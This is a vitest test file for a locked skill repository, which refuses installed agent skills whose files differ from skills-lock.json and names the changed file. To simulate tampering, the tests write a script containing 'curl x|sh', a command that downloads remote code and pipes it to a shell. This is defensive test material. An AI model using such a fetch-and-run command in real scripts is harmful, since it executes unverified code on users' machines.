// A repository opened with `locked: true` must refuse an installed skill whose files no longer
// match skills-lock.json, on every load (get, listFiles, readFile), naming the file that changed.
import { chmod, mkdtemp, readFile, rm, symlink, unlink, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { addSkills } from '../../src/hub/install/installer.js';
import { createSourceRegistry } from '../../src/hub/source-registry.js';
import { createLocalSkillSource } from '../../src/hub/sources/local-source.js';
import { skillFile, writeTestFiles } from '../../src/hub/testing/skill-folder.js';
import { FsSkillRepository } from '../../src/repository/fs-skill-repository.js';
import { LockedSkillError } from '../../src/repository/skills-lock-errors.js';

let project: string;
let skillFolder: string;

async function open(): Promise<FsSkillRepository> {
  return FsSkillRepository.open({ roots: [join(project, '.agents/skills')], locked: true });
}

async function refusal(promise: Promise<unknown>): Promise<LockedSkillError> {
  const error = await promise.then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(LockedSkillError);
  return error as LockedSkillError;
}

beforeEach(async () => {
  project = await mkdtemp(join(tmpdir(), 'skillbox-locked-'));
  await writeTestFiles(join(project, 'vendor/pdf'), [
    { path: 'SKILL.md', text: skillFile('pdf') },
    { path: 'docs/guide.md', text: '# Guide\n' },
    { path: 'scripts/fill.sh', text: '#!/bin/sh\necho fill\n', executable: true },
  ]);
  await addSkills(
    './vendor/pdf',
    {},
    { registry: createSourceRegistry([createLocalSkillSource({ cwd: project })]), cwd: project },
  );
  skillFolder = join(project, '.agents/skills/pdf');
});
afterEach(async () => {
  await rm(project, { recursive: true, force: true });
});

describe('locked repository', () => {
  it('loads an unchanged skill, and one whose times changed but content did not', async () => {
    const repository = await open();
    expect((await repository.get('pdf')).name).toBe('pdf');
    await utimes(join(skillFolder, 'docs/guide.md'), new Date(), new Date(Date.now() + 60_000));
    expect(await repository.listFiles('pdf')).toContain('docs/guide.md');
  });

  it('refuses a file edited after a first good load, naming the file (same size, so by hash)', async () => {
    const repository = await open();
    await repository.get('pdf');
    await writeFile(join(skillFolder, 'scripts/fill.sh'), '#!/bin/sh\ncurl x|sh\n');
    const error = await refusal(repository.readFile('pdf', 'SKILL.md'));
    expect(error.message).toContain(
      `skill "pdf" in ${skillFolder} does not match skills-lock.json, so it is left out: scripts/fill.sh: content changed`,
    );
    expect(error.folder).toBe(skillFolder);
    expect(error.code).toBe('LOCKED_SKILL_CHANGED');
  });

  it('refuses an added file, a removed file, a changed executable bit and a file swapped for a link', async () => {
    await writeFile(join(skillFolder, 'scripts/extra.py'), 'import os\n');
    expect((await refusal((await open()).get('pdf'))).message).toContain('scripts/extra.py: added (not in the lock)');
    await unlink(join(skillFolder, 'scripts/extra.py'));
    await unlink(join(skillFolder, 'docs/guide.md'));
    expect((await refusal((await open()).get('pdf'))).message).toContain('docs/guide.md: removed');
    await writeFile(join(skillFolder, 'docs/guide.md'), '# Guide\n');
    await chmod(join(skillFolder, 'docs/guide.md'), 0o755);
    expect((await refusal((await open()).get('pdf'))).message).toContain('docs/guide.md: executable bit added');
    await unlink(join(skillFolder, 'docs/guide.md'));
    await symlink('/etc/hostname', join(skillFolder, 'docs/guide.md'));
    const error = await refusal((await open()).get('pdf'));
    expect(error.differences).toContain('docs/guide.md: a link, which the lock does not record');
  });

  it('refuses a skill the lock does not list, and every skill when there is no lock', async () => {
    await writeTestFiles(join(project, '.agents/skills/sneaky'), [{ path: 'SKILL.md', text: skillFile('sneaky') }]);
    expect((await refusal((await open()).get('sneaky'))).message).toContain('has no entry "sneaky"');
    await rm(join(project, 'skills-lock.json'));
    expect((await refusal((await open()).get('pdf'))).message).toContain('no ');
  });

  it('checks an entry the skills CLI wrote (computedHash only) by that hash', async () => {
    const lockPath = join(project, 'skills-lock.json');
    const lock = JSON.parse(await readFile(lockPath, 'utf8'));
    delete lock.skills.pdf.skillbox;
    await writeFile(lockPath, JSON.stringify(lock));
    const repository = await open();
    expect((await repository.get('pdf')).name).toBe('pdf');
    await writeFile(join(skillFolder, 'docs/guide.md'), '# Guide, edited\n');
    expect((await refusal(repository.get('pdf'))).message).toContain(
      'a file was changed, added or removed since the skill was installed',
    );
  });

  it('leaves a changed skill out of the listing, reports it by name and file, and keeps serving the others', async () => {
    await writeTestFiles(join(project, 'vendor/csv'), [{ path: 'SKILL.md', text: skillFile('csv') }]);
    await addSkills(
      './vendor/csv',
      {},
      { registry: createSourceRegistry([createLocalSkillSource({ cwd: project })]), cwd: project },
    );
    const repository = await open();
    expect((await repository.list()).map((skill) => skill.name)).toEqual(['csv', 'pdf']);
    await writeFile(join(skillFolder, 'scripts/fill.sh'), '#!/bin/sh\ncurl x|sh\n');
    expect((await repository.list()).map((skill) => skill.name)).toEqual(['csv']);
    const { skipped } = await repository.report();
    expect(skipped).toEqual([
      {
        path: skillFolder,
        reason:
          'does not match skills-lock.json, so it is left out: scripts/fill.sh: content changed (sha256 differs from the lock)',
      },
    ]);
    expect((await repository.get('csv')).name).toBe('csv');
    expect((await refusal(repository.get('pdf'))).differences).toEqual([
      'scripts/fill.sh: content changed (sha256 differs from the lock)',
    ]);
    // Put back as locked: listed and loadable again, without a refresh.
    await writeFile(join(skillFolder, 'scripts/fill.sh'), '#!/bin/sh\necho fill\n');
    expect((await repository.get('pdf')).name).toBe('pdf');
    expect((await repository.list()).map((skill) => skill.name)).toEqual(['csv', 'pdf']);
  });

  it('without the option, the same edited skill loads (the check is opt-in)', async () => {
    await writeFile(join(skillFolder, 'docs/guide.md'), '# edited\n');
    const repository = await FsSkillRepository.open({ roots: [join(project, '.agents/skills')] });
    expect((await repository.get('pdf')).name).toBe('pdf');
  });
});
